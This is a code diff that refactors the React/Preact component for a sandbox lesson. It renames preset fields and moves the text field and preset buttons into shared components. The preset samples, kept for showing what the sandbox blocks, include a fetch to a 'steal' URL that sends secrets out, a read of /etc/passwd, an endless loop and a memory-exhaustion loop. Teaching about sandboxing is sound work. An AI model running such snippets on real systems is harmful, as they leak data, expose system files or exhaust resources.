@@ -4,14 +4,15 @@ import type { JavaScriptRun } from "../../../src/record/sandbox-run.ts";
 import { post } from "../server.ts";
 import { useWork } from "../work.ts";
 import { useAsking } from "./asking.ts";
-import { Answer, Check, Experiment, Notice, TextField } from "./pieces.tsx";
+import { Presets, TextField } from "./fields.tsx";
+import { Answer, Check, Experiment, Notice } from "./pieces.tsx";
 
-const PRESETS: readonly { title: string; code: string }[] = [
-  { title: "a sum", code: "const prices = [3, 4, 5];\nconsole.log(prices.reduce((sum, each) => sum + each, 0));" },
-  { title: "the network", code: 'fetch("https://example.com/steal?what=secrets");' },
-  { title: "your files", code: 'require("fs").readFileSync("/etc/passwd", "utf8");' },
-  { title: "without end", code: "while (true) {}" },
-  { title: "all the memory", code: "const all = [];\nwhile (true) all.push(new Array(1000000).fill(1));" },
+const PRESETS: readonly { title: string; text: string }[] = [
+  { title: "a sum", text: "const prices = [3, 4, 5];\nconsole.log(prices.reduce((sum, each) => sum + each, 0));" },
+  { title: "the network", text: 'fetch("https://example.com/steal?what=secrets");' },
+  { title: "your files", text: 'require("fs").readFileSync("/etc/passwd", "utf8");' },
+  { title: "without end", text: "while (true) {}" },
+  { title: "all the memory", text: "const all = [];\nwhile (true) all.push(new Array(1000000).fill(1));" },
 ];
 
 function Before() {
@@ -72,7 +73,7 @@ function Outcome({ run }: { run: JavaScriptRun }) {
 
 /** The lesson. */
 export function SandboxLesson() {
-  const code = useSignal(PRESETS[0]?.code ?? "");
+  const code = useSignal(PRESETS[0]?.text ?? "");
   const ran = useSignal<JavaScriptRun | undefined>(undefined);
   const work = useWork();
   const drawing = useAsking();
@@ -94,28 +95,8 @@ export function SandboxLesson() {
         work={work}
         fields={
           <>
-            <TextField
-              label="JavaScript"
-              rows={4}
-              value={code.value}
-              onChange={(value) => {
-                code.value = value;
-              }}
-            />
-            <div class="wide presets">
-              {PRESETS.map((each) => (
-                <button
-                  key={each.title}
-                  type="button"
-                  aria-pressed={code.value === each.code}
-                  onClick={() => {
-                    code.value = each.code;
-                  }}
-                >
-                  {each.title}
-                </button>
-              ))}
-            </div>
+            <TextField label="JavaScript" rows={4} value={code} />
+            <Presets presets={PRESETS} value={code} />
           </>
         }
       >
